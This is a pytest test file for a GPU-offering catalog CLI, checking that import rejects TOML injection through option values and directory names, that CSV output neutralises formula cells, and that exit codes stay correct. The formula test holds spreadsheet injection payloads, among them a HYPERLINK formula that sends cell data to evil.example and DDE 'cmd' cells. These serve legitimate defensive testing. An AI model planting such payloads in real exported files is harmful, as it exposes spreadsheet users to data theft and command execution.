"""Audit 2026-12-04 N9, N12 (nothing injected through imports; CSV output neutralises formulas) and
N14, N15, N16 (exit codes from input and environment: one line, exit 2, or 1 for a write failure;
never 3, never 0 on truncated output)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

FIX = Path(__file__).parent / "fixtures"
INJECT = 'lambda\n[[offering]]\nname = "INJECTED"\ngpu = "h100-sxm"\nprice.per_hour = 0.01\n#'
HEADER = "InstanceType,AcceleratorName,AcceleratorCount,vCPUs,MemoryGiB,Price,Region,GpuInfo,SpotPrice\n"


def _env(tmp_path: Path) -> dict:
    return {**os.environ, "HOME": str(tmp_path), "XDG_CACHE_HOME": str(tmp_path / "cache"),
            "XDG_CONFIG_HOME": str(tmp_path / "cfg")}


def gpa(tmp_path: Path, *args, **kw) -> subprocess.CompletedProcess:
    argv = [os.fsencode(a) if isinstance(a, str) else a for a in args]
    return subprocess.run([os.fsencode(sys.executable), b"-m", b"gpuadvisor", *argv], cwd=tmp_path,
                          env=_env(tmp_path), capture_output=True, timeout=120, **kw)


def csv_file(tmp_path: Path, rows: list[str]) -> Path:
    p = tmp_path / "vms.csv"
    p.write_text(HEADER + "".join(r + "\n" for r in rows))
    return p


# ------------------------------------------------------------------ N9: --cloud, --id, CSV fields


def test_n9_cloud_with_a_newline_is_refused_and_nothing_written(tmp_path, run, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    p = csv_file(tmp_path, ["gpu_1x_h100,H100,1,26,200,2.49,us-east-1,,"])
    r = run("catalog", "import", "skypilot", str(p), "--id", "lam", "--cloud", INJECT, code=2)
    assert "--cloud" in r.stderr and "not a plain name" in r.stderr and r.stderr.count("\n") == 1
    assert not (tmp_path / "cfg" / "gpuadvisor" / "catalogs" / "lam.toml").exists()


def test_n9_a_hostile_directory_name_never_reaches_the_toml(tmp_path, run, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    d = tmp_path / "lam\n[gpu.zz]\nx = 1\n#"
    d.mkdir()
    p = d / "vms.csv"
    p.write_text(HEADER + "gpu_1x_h100,H100,1,26,200,2.49,us-east-1,,\n")
    r = run("catalog", "import", "skypilot", str(p), code=2)  # the cloud would come from the directory name
    assert "give --cloud NAME" in r.stderr
    data = run.json("catalog", "import", "skypilot", str(p), "--cloud", "lambda", "--id", "lam")
    import tomllib

    text = Path(data["file"]).read_text()
    assert set(tomllib.loads(text)) == {"provider", "offering"}  # the path is only ever inside strings and comments
    assert "\n[gpu.zz]" not in text
    assert run.json("list", "-p", "lam")[0]["name"] == "gpu_1x_h100"


@pytest.mark.parametrize("pid", ["*", "-rf", "~", "a:b", "A B", "x\x1b[31m", "a" * 65, "..", "a/b", "x.toml"])
def test_n9_n16_id_must_be_a_slug(tmp_path, run, monkeypatch, pid):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    p = csv_file(tmp_path, ["gpu_1x_h100,H100,1,26,200,2.49,us-east-1,,"])
    r = run("catalog", "import", "skypilot", str(p), "--id", pid, "--cloud", "lambda", code=2)
    assert "is not a plain name" in r.stderr and "\x1b" not in r.stderr and r.stderr.count("\n") == 1
    d = tmp_path / "cfg" / "gpuadvisor" / "catalogs"
    assert not d.exists() or not list(d.iterdir())


def test_n14_non_utf8_id_and_cloud_are_exit_2_not_3(tmp_path):
    p = csv_file(tmp_path, ["gpu_1x_h100,H100,1,26,200,2.49,us-east-1,,"])
    for opt in (b"--id", b"--cloud"):
        r = gpa(tmp_path, "catalog", "import", "skypilot", str(p), opt, b"x\xff")
        assert r.returncode == 2 and r.stderr.count(b"\n") == 1 and b"Traceback" not in r.stderr, r.stderr


def test_csv_cells_with_del_and_controls_are_escaped_not_refused():
    from gpuadvisor.catalog.importers import import_csv

    body = HEADER + 'odd\x7f"]]\x01name,H100,1,8,64,2.0,r\u2028x,,\n'
    imp = import_csv("skypilot", body.encode(), source="v\nms.csv", provider_id="x", cloud="x", as_of="2026-12-04")
    import tomllib

    data = tomllib.loads(imp.toml)
    assert data["offering"][0]["name"] == 'odd\x7f"]]\x01name' and imp.toml.splitlines()[0].endswith("2026-12-04.")


# ------------------------------------------------------------------ N12: formula cells


def test_n12_csv_output_neutralises_formula_cells(tmp_path, run, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x", "-2+3+cmd|x",
             "=1+1"]
    rows = [f'"{n.replace(chr(34), chr(34) * 2)}",H100,1,8,64,{2 + i},r1,,' for i, n in enumerate(names)]
    p = csv_file(tmp_path, rows)
    run("catalog", "import", "skypilot", str(p), "--id", "formula", "--cloud", "lambda")
    out = run("list", "-p", "formula", "--format", "csv").stdout
    cells = [row[1] for row in csv.reader(io.StringIO(out))][1:]
    assert sorted(cells) == sorted("'" + n for n in names)


def test_n12_numbers_are_not_quoted():
    from gpuadvisor.render import csv_cell

    assert [csv_cell(v) for v in (-2.5, "-27%", "+3", "-0.5", "=1+1", "-x", "\tx")] == \
        [-2.5, "-27%", "+3", "-0.5", "'=1+1", "'-x", "'\tx"]


# ------------------------------------------------------------------ N14, N15: exit codes


def test_n14_a_path_component_over_255_bytes_is_exit_2(tmp_path):
    for args in (("catalog", "validate", "a" * 300), ("check", "a" * 300), ("translate", "modal", "runpod", "--file", "a" * 300)):
        r = gpa(tmp_path, *args)
        assert r.returncode == 2 and r.stderr.count(b"\n") == 1 and b"internal error" not in r.stderr, (args, r.stderr)


def test_n14_closed_stdout_is_exit_1_with_one_line(tmp_path):
    r = subprocess.run([sys.executable, "-m", "gpuadvisor", "list"], cwd=tmp_path, env=_env(tmp_path), stdout=None,
                       stderr=subprocess.PIPE, timeout=120, pass_fds=(), close_fds=True,
                       preexec_fn=lambda: os.close(1))
    assert r.returncode == 1 and b"stdout is closed" in r.stderr and r.stderr.count(b"\n") == 1, r.stderr


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_n14_full_device_is_exit_1(tmp_path):
    with open("/dev/full", "wb") as full:
        r = subprocess.run([sys.executable, "-m", "gpuadvisor", "list", "--json"], cwd=tmp_path, env=_env(tmp_path),
                           stdout=full, stderr=subprocess.PIPE, timeout=120)
    assert r.returncode == 1 and b"No space left" in r.stderr and r.stderr.count(b"\n") == 1, r.stderr


@pytest.mark.parametrize("fmt", [["--json"], ["--format", "csv"], []])
def test_n15_ulimit_f_truncation_is_exit_1_never_0(tmp_path, fmt):
    import resource

    out = tmp_path / "out"
    with open(out, "wb") as f:
        r = subprocess.run([sys.executable, "-m", "gpuadvisor", "list", *fmt], cwd=tmp_path, env=_env(tmp_path), stdout=f,
                           stderr=subprocess.PIPE, timeout=120,
                           preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096)))
    assert out.stat().st_size <= 4096
    assert r.returncode == 1 and b"File too large" in r.stderr and r.stderr.count(b"\n") == 1, r.stderr


def test_n16_stderr_closed_still_exits_2(tmp_path):
    r = subprocess.run([sys.executable, "-m", "gpuadvisor", "show", "nope"], cwd=tmp_path, env=_env(tmp_path),
                       stdout=subprocess.DEVNULL, timeout=120, preexec_fn=lambda: os.close(2))
    assert r.returncode == 2


# ------------------------------------------------------------------ N16: small items


def test_n16_pep263_latin1_source_is_read(tmp_path, run):
    f = tmp_path / "lat.py"
    f.write_bytes(b'# -*- coding: latin-1 -*-\nimport modal\napp = modal.App()\n# caf\xe9\n@app.function(gpu="H100")\n'
                  b"def f(): pass\n")
    data = run.json("translate", "modal", "runpod", "--file", str(f))
    assert json.dumps(data)  # read, translated
    r = run("check", str(f), code=None)
    assert r.exit_code in (0, 1) and "not UTF-8" not in r.stderr


def test_n16_a_bad_encoding_cookie_is_one_line(tmp_path, run):
    f = tmp_path / "bad.py"
    f.write_bytes(b"# -*- coding: no-such-codec -*-\nx = 1\n")
    r = run("check", str(f), code=2)
    assert "cannot decode the source" in r.stderr and r.stderr.count("\n") == 1


def test_n16_sarif_uris_are_percent_encoded(tmp_path, run):
    d = tmp_path / "sp ace"
    d.mkdir()
    (d / "a b#1.py").write_text('import modal\napp = modal.App()\n@app.function(gpu="H100:9")\ndef f(): pass\n')
    doc = json.loads(run("check", str(d), "--format", "sarif", code=None).stdout)
    [uri] = {loc["physicalLocation"]["artifactLocation"]["uri"] for r in doc["runs"][0]["results"] for loc in r["locations"]}
    assert uri.endswith("sp%20ace/a%20b%231.py") and " " not in uri


def test_n16_an_oversized_config_file_is_called_a_config_file(tmp_path, run):
    d = tmp_path / "app"
    d.mkdir()
    (d / "config.yaml").write_text("resources:\n  accelerator: H100\n" + "#" * (600 * 1024) + "\n")
    r = run("check", str(d / "config.yaml"), code=2)
    assert "config file larger than" in r.stderr and "Python file" not in r.stderr


@pytest.mark.parametrize("rev", ["../../x", "main\nx", "a b", "-rf"])
def test_n16_hf_revision_is_checked_before_any_download(rev):
    from gpuadvisor import hub
    from gpuadvisor.errors import UsageError

    with pytest.raises(UsageError, match="not a revision"):
        hub.fetch_config(f"Qwen/Qwen3-8B@{rev}")
